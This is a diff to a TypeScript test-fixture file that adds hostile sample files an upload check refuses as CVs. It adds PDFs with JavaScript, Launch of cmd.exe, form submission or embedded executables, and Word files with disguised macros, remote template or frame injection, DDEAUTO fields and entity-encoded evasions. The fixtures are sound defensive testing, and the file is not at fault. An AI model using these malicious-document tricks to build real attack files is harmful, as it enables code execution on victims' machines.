@@ -1,5 +1,5 @@
 import { zipSync } from 'fflate';
-import { doc, docx, pdf } from '../../tests/support/documents.ts';
+import { doc, docx, packedPdf, pdf, relation, wordFields } from '../../tests/support/documents.ts';
 
 const text = (value: string) => new TextEncoder().encode(value);
 const bytes = (...values: number[]) => new Uint8Array(values);
@@ -43,6 +43,18 @@ export const endlessZip = (() => {
   zip.write('PK\u0005\u0006', locator + 20);
   return new Uint8Array(zip);
 })();
+
+/** What a PDF may do besides being read, each as its catalog has it. */
+const actions: [what: string, extra: string][] = [
+  ['runs a script', '/OpenAction <</S /JavaScript /JS (app.alert(1))>>'],
+  ['runs a script by name', '/Names <</JavaScript <</Names [(a) <</S /JavaScript /JS (1)>>]>>>>'],
+  ['starts a program', '/OpenAction <</S /Launch /F (cmd.exe)>>'],
+  ['sends a form', '/AA <</WC <</S /SubmitForm /F (https://lab.example)>>>>'],
+  ['opens another file', '/OpenAction <</S /GoToR /F (//lab.example/a.pdf) /D [0 /Fit]>>'],
+  ['imports data', '/AA <</DS <</S /ImportData /F (a.fdf)>>>>'],
+  ['is a form of another kind', '/AcroForm <</XFA [(template) <</a 1>>]>>'],
+  ['has a file', '/Names <</EmbeddedFiles <</Names [(a) <</Type /Filespec /F (a.exe)>>]>>>>'],
+];
 
 /** Files that are no CV whatever they call themselves. Each is refused with the sentence on types. */
 export const hostileFiles: [what: string, name: string, content: Uint8Array][] = [
@@ -116,7 +128,63 @@ export const hostileFiles: [what: string, name: string, content: Uint8Array][] =
   ],
   ['a PDF with a file inside', 'cv.pdf', pdf({ extra: '/EmbeddedFile 9 0 R' })],
   ['a PDF with a film inside', 'cv.pdf', pdf({ extra: '/RichMedia 9 0 R' })],
+  ...actions.flatMap(([what, extra]): [string, string, Uint8Array][] => [
+    [`a PDF that ${what}`, 'cv.pdf', pdf({ extra })],
+    [`a packed PDF that ${what}`, 'cv.pdf', packedPdf({ extra })],
+  ]),
+  [
+    'a PDF that runs JavaScript after a remark',
+    'cv.pdf',
+    pdf({ extra: '/OpenAction <</S % (\n/JavaScript % )\n/JS (app.alert(1))>>' }),
+  ],
   ['a program in front of Word', 'cv.docx', join(exe, docx())],
+  [
+    'Word with macros that say so nowhere in their name',
+    'cv.docx',
+    docx({
+      '[Content_Types].xml': text(
+        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/notes.dat" ContentType="application/vnd.ms-office.vba&#80;roject"/></Types>',
+      ),
+      'word/notes.dat': bytes(1),
+    }),
+  ],
+  [
+    'Word with macros by another way',
+    'cv.docx',
+    docx({ 'word/_rels/document.xml.rels': relation('vbaProject', 'notes.dat', 'Internal') }),
+  ],
+  ...(
+    [
+      ['a template', 'attachedTemplate', 'https://lab.example/a.dotm'],
+      ['a template of another machine', 'attachedTemplate', 'file://lab.example/share/a.dotm'],
+      ['an object', 'oleObject', 'https://lab.example/a'],
+      ['a frame', 'frame', 'https://lab.example/a.html'],
+      ['a document', 'subDocument', 'https://lab.example/a.docx'],
+      ['a picture', 'image', 'https://lab.example/a.png'],
+    ] as const
+  ).map(([what, type, target]): [string, string, Uint8Array] => [
+    `Word that fetches ${what}`,
+    'cv.docx',
+    docx({ 'word/_rels/settings.xml.rels': relation(type, target) }),
+  ]),
+  [
+    'Word that hides that it fetches something',
+    'cv.docx',
+    docx({
+      'word/_rels/settings.xml.rels': relation('frame', 'https://lab.example', 'Ext&#x65;rnal'),
+    }),
+  ],
+  [
+    'Word with a field that starts a program',
+    'cv.docx',
+    docx({ 'word/document.xml': wordFields('DD', 'EAUTO', ' c:\\cmd.exe') }),
+  ],
+  [
+    'Word with a field that spells it in numbers',
+    'cv.docx',
+    docx({ 'word/header1.xml': wordFields(' QUOTE 68 ', '68 69 65') }),
+  ],
+  ['Word with two parts of one name', 'cv.docx', docx({ 'WORD/document.xml': bytes(1) })],
   ['Word with macros', 'cv.docx', docx({ 'word/vbaProject.bin': bytes(1) })],
   ['Word with macros elsewhere', 'cv.docx', docx({ 'customXml/VBAPROJECT.BIN': bytes(1) })],
   ['Word with ActiveX', 'cv.docx', docx({ 'word/activeX/activeX1.xml': bytes(1) })],
